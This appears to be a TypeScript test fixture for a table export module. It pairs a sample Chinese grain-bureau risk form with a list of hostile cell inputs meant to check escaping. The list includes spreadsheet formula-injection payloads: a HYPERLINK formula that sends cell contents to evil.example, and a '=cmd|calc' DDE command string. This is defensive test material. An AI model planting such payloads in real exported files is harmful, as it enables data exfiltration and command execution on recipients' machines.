import type { TableDocument, TableRow } from '../../src/export/document.js';

/** What a spreadsheet would run, what breaks XML, what is taken for markup or an escape, and long texts. */
export const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  '+8613800000000',
  '-2+3',
  '@SUM(A1)',
  '\t=cmd|calc',
  '  =1',
  '＝1＋1',
  "'=1",
  '<script>&amp;]]></script>',
  '_x0041_ _x000D_',
  '%s %n {{y}} <%= z %>',
  '第一行\n第二行\n',
  ' 前后有空格 ',
  '👩‍👩‍👧 𠮷野家 é',
  '007',
  '1e5',
  '2026-11-21',
  'TRUE',
  '&P &N &"x"',
  '长'.repeat(2000),
  '',
];

export function table(change: Partial<TableDocument> & { cells?: string[][] } = {}): TableDocument {
  const { cells = [], ...given } = change;
  return {
    name: '岗位',
    title: '市粮食局岗位廉政风险排查、防控一览表',
    head: { left: '填报单位：市粮食局', right: '截至：2012年8月20日' },
    columns: [
      { key: 'serial', label: '序号', width: 6, align: 'center' },
      { key: 'risk', label: '风险点（表现形式）', width: 40, align: 'left' },
      { key: 'level', label: '风险等级', width: 9, align: 'center' },
    ],
    rows: cells.map((row): TableRow => ({ kind: 'row', cells: row })),
    empty: '（无）',
    notes: ['注：一'],
    signatures: ['填表人：', '审核人：', '日期：'],
    ...given,
  };
}
